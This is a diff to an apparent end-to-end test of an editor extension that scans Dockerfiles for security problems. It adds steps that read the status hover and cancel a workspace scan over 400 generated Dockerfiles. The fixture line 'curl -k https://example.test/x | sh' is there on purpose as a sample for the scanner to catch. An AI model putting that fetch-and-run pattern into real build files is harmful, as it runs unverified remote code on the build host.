@@ -1,10 +1,12 @@
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { test } from 'node:test';
 import type { Page } from 'playwright-core';
 import { inEditor, type Leg, obstacle } from './leg.ts';
 import { address, openMenu, remote, shoot } from './workbench.ts';
+
+const dockerfile = 'RUN apt-get update && apt-get install -y curl && curl -k https://example.test/x | sh\n';
 
 const why = obstacle();
 const title = "a person's path through the workbench";
@@ -47,6 +49,18 @@ async function walk(
     await shoot(page, 'person-2-problems');
   });
 
+  await step('reads in the status bar how things stand', async () => {
+    await page.locator('.statusbar-item[id="status.languageStatus"] a').first().click();
+    const status = page.locator('.hover-language-status').first();
+    await status.waitFor();
+    await page.locator('.hover-language-status', { hasText: /1 critical/ }).waitFor();
+    await page.locator('.hover-language-status', { hasText: /files scanned at/ }).waitFor();
+    await page.locator('.hover-language-status', { hasText: /No configuration file/ }).waitFor();
+    await shoot(page, 'person-2-status');
+    await page.keyboard.press('Escape');
+    await row.waitFor();
+  });
+
   await step('goes to it and opens the quick fixes', async () => {
     await row.dblclick();
     await page.locator('.statusbar-item', { hasText: 'Ln 5, Col' }).waitFor();
@@ -67,6 +81,22 @@ async function walk(
     await page.keyboard.press('Control+S');
     await page.locator('.tab.active:not(.dirty)').waitFor();
     assert.doesNotMatch(readFileSync(file, 'utf8'), /privileged: true/);
+  });
+
+  await step('scans the workspace and stops the scan', async () => {
+    const many = path.join(workspace, 'many');
+    mkdirSync(many);
+    for (let n = 0; n < 400; n++)
+      writeFileSync(path.join(many, `Dockerfile.${n}`), `FROM alpine:3.20\n${dockerfile.repeat(3)}`);
+    await page.keyboard.press('F1');
+    await page.keyboard.type('Plimsoll: Scan Workspace');
+    await page.keyboard.press('Enter');
+    const notification = page.locator('.notification-toast', { hasText: 'scanning workspace' });
+    await notification.getByRole('button', { name: 'Cancel' }).click();
+    await page.locator('.notification-toast', { hasText: 'Scan cancelled: ' }).waitFor({ timeout: 120_000 });
+    await shoot(page, 'person-5-cancelled');
+    await page.keyboard.press('Escape');
+    rmSync(many, { recursive: true });
   });
 
   await step(
